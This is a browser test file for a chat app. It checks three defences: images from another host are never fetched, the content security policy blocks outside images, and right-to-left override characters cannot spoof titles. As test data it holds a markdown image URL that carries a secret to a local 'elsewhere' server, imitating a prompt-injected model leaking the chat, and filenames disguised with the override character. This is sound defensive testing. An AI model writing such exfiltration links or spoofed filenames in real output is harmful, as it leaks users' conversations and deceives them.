"""Text the app did not write, in a real browser: images from elsewhere never load, titles cannot lie."""

from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import httpx
import pytest

from tests.test_browser import app, browser, goto, send  # noqa: F401 (fixtures)
from tests.test_browser_chat import open_sidebar_on_phone, page, wait_idle  # noqa: F401 (fixtures)

ONE_PIXEL_GIF = bytes.fromhex("47494638396101000100800000000000ffffff21f90401000000002c00000000010001000002024401003b")


@pytest.fixture
def elsewhere():
    """Another host (another port is another origin): every request it gets is a leak."""
    requests: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            requests.append(self.path)
            self.send_response(200)
            self.send_header("content-type", "image/gif")
            self.end_headers()
            self.wfile.write(ONE_PIXEL_GIF)

        def log_message(self, *args) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}", requests
    server.shutdown()


def test_an_image_from_another_host_is_never_fetched_and_the_answer_shows_it_as_a_link(app, page, elsewhere):  # noqa: F811
    host, requests = elsewhere
    goto(page, app.url)
    # The demo model repeats the prompt, as a prompt-injected model would write a URL carrying the chat.
    send(page, f"zeig ![Pixel]({host}/p.gif?d=Geheimnis)")
    wait_idle(page, 1)
    link = page.locator("[data-testid='bot'] a[href*='p.gif']")
    assert link.count() == 1 and "Pixel" in link.inner_text()
    page.reload()
    page.wait_for_function("() => document.querySelectorAll(\"[data-testid='bot'] a[href*='p.gif']\").length == 1")
    page.wait_for_timeout(300)
    assert requests == []  # neither the prompt's bubble nor the answer's, live or reloaded


def test_every_page_and_api_response_allows_images_only_from_the_app(app):  # noqa: F811
    for path in ("", "sse-demo", "config"):
        policy = httpx.get(f"{app.url}{path}").headers["content-security-policy"]
        assert policy == "img-src 'self' data: blob:"


def test_a_title_with_a_right_to_left_override_shows_in_the_order_typed(app, page):  # noqa: F811
    goto(page, app.url)
    send(page, "Rechnung\u202efdp.exe bitte prüfen")
    wait_idle(page, 1)
    open_sidebar_on_phone(page)
    page.wait_for_function("() => document.querySelector('#sessions').innerText.includes('Rechnungfdp.exe')")
    assert "\u202e" not in page.locator("#sessions").inner_text()


READING_ORDER = """(phrase) => {
    const bubble = [...document.querySelectorAll("[data-testid='bot']")].pop();
    const walker = document.createTreeWalker(bubble, NodeFilter.SHOW_TEXT);
    for (let node = walker.nextNode(); node; node = walker.nextNode()) {
        const at = node.data.indexOf(phrase);
        if (at < 0) continue;
        const range = document.createRange();
        range.setStart(node, at); range.setEnd(node, at + 1);
        const first = range.getBoundingClientRect();
        range.setStart(node, at + phrase.length - 1); range.setEnd(node, at + phrase.length);
        const last = range.getBoundingClientRect();
        return {first: first.left, last: last.left, sameLine: Math.abs(first.top - last.top) < 2};
    }
    return null;
}"""


def test_an_override_typed_in_a_prompt_does_not_reverse_the_answer_that_quotes_it(app, page):  # noqa: F811
    goto(page, app.url)
    send(page, "Factura\u202eanexa.pdf revisar")
    wait_idle(page, 1)
    placed = page.evaluate(READING_ORDER, "I can see")
    assert placed and placed["sameLine"]
    assert placed["first"] < placed["last"]  # "I" before "see", left to right, after the quoted prompt
